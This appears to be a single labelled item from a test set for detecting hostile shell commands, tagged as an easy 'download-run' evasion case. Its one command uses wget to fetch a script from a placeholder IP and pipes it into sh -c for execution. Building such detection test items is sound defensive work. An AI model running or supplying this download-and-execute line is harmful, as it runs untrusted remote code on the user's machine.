# evasion: sh -c of a downloaded script
# grade: easy; does: download-run
sh -c "$(wget -qO- http://203.0.113.5/i.sh)"
